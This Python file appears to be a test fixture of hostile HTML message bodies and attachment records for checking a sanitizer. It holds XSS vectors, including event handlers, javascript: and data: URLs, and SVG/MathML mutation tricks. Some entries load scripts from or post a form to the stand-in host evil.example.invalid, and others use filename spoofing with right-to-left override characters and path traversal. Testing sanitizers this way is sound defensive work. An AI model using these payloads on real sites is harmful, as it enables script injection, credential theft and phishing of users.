"""Bodies for 97. Whatever runs sets ``hit``; whatever loads asks evil.example.invalid."""

EVIL = "http://evil.example.invalid"
ONE_MEGABYTE = 1_048_576

BODIES = (
    # Scripts.
    "<p>01</p><script>window.hit=1;document.title='hit'</script>",
    f"<p>02</p><script src='{EVIL}/02.js'></script><SCRIPT\n/XSS SRC='{EVIL}/02b.js'></SCRIPT >",
    f"<p>03 <img src='{EVIL}/03.png' onerror='window.hit=3'><img src=x:x onerror=window.hit=3></p>",
    "<p onclick='window.hit=4' onmouseover='window.hit=4'>04 <b onpointerenter=window.hit=4>b</b>"
    "<input autofocus onfocus='window.hit=4'><details open ontoggle='window.hit=4'>d</details></p>",
    # Links.
    '<p>05 <a href="javascript:window.hit=5">a</a> <a href="jAvA&#09;script&colon;hit=5">b</a>'
    ' <a href=" &#14; javascript:window.hit=5">c</a> <a href="vbscript:hit">d</a></p>',
    '<p>06 <a href="data:text/html,<script>parent.hit=6</script>">a</a>'
    ' <a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTY8L3NjcmlwdD4=">b</a></p>',
    f'<p>07 <a href="{EVIL}/07" target="_blank" ping="{EVIL}/07-ping">opener</a>'
    f' <a href="//evil.example.invalid/07b">no scheme</a></p>',
    # Style.
    f"<p>08</p><style>@import '{EVIL}/08.css'; body {{ display: none !important }}</style>"
    f'<link rel="stylesheet" href="{EVIL}/08b.css">',
    '<div style="position:fixed;inset:0;z-index:9999;background:#fff;'
    f"background-image:url('{EVIL}/09.png')\">09 covers the page</div>",
    # Broken HTML.
    "<p>10 <b><i>never closed <table><tr><td>cell</b></p></div></section></main></body></html>"
    "<p>after the end",
    "<p>11 <!--><script>window.hit=11</script>--> <![CDATA[<script>window.hit=11</script>]]>"
    "<a title='</a><script>window.hit=11</script>'>x</a> <img alt='`><script>hit=11</script>'",
    "<div>" * 600 + "12 deep" + "</div>" * 600,
    # Letters that are not what they look like.
    "<p>13 photo_\u202egnp.exe \u2066hidden\u2069 \u200fright\u200f zero\u200bwidth</p>",
    f"<p>14 {'A' * ONE_MEGABYTE}</p>",
    "<p>15 before\x00after <scr\x00ipt>window.hit=15</scr\x00ipt></p>",
    "<p>16 half \ud83d a pair, the other half \ude42, and \uffff</p>",
    # Other namespaces.
    "<p>17</p><svg onload='window.hit=17'><script>window.hit=17</script>"
    f"<image href='{EVIL}/17.png'/><a xlink:href='javascript:hit=17'><text>t</text></a></svg>",
    "<p>18</p><math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=window.hit=18&gt;'></mglyph></table></mtext></math>",
    # Going elsewhere, or bringing something in.
    f'<p>19</p><meta http-equiv="refresh" content="0;url={EVIL}/19">',
    f'<p>20</p><iframe src="{EVIL}/20"></iframe><iframe srcdoc="<script>parent.hit=20</script>">'
    "</iframe><iframe src='javascript:parent.hit=20'></iframe>",
    f'<p>21</p><form action="{EVIL}/21" id="conference"><input name="csrfmiddlewaretoken">'
    f'<button formaction="javascript:window.hit=21">Log in again</button></form>',
    f'<p>22</p><base href="{EVIL}/22/"><a href="next">relative</a>',
    f'<p>23</p><object data="{EVIL}/23"></object><embed src="{EVIL}/23b">'
    f'<video poster="{EVIL}/23c">'
    f'<source src="{EVIL}/23d"></video><audio src="{EVIL}/23e" autoplay></audio>'
    f'<img srcset="{EVIL}/23f 2x" src="{EVIL}/23g">'
    f'<picture><source srcset="{EVIL}/23h"></picture>',
    "<p>24</p><noscript><p title='</noscript><img src=x onerror=window.hit=24>'></noscript>"
    "<template><script>window.hit=24</script></template><xmp><script>window.hit=24</script></xmp>",
    # Names that shadow the page's own.
    '<p>25 <a id="hit" name="hit">clobbered</a><img name="body"><form name="cookie"></form>'
    "<p hx-get='/logout' hx-trigger='load' data-hx-on:load='window.hit=25'>25</p></p>",
)

TEXT = "<script>window.hit=26</script> & <b>26</b> are letters here\r\n\tand no markup"

# (content type, url, name, content): attachments of one message.
ATTACHMENTS = (
    ("reference", "javascript:window.hit=27", "harmless.pdf", None),
    ("reference", f"{EVIL}/27.pdf", '"><img src=x onerror=window.hit=27>', None),
    (
        "reference",
        "https://example.sharepoint.com@evil.example.invalid/27",
        "../../27\u202efdp.exe",
        None,
    ),
    ("application/vnd.microsoft.card.adaptive", None, None, '{"type": "AdaptiveCard", "body": ['),
    ("messageReference", None, None, '{"messagePreview": "<script>window.hit=27</script>"}'),
    (
        "<script>window.hit=27</script>",
        "data:text/html,<script>parent.hit=27</script>",
        "\x00",
        "",
    ),
)
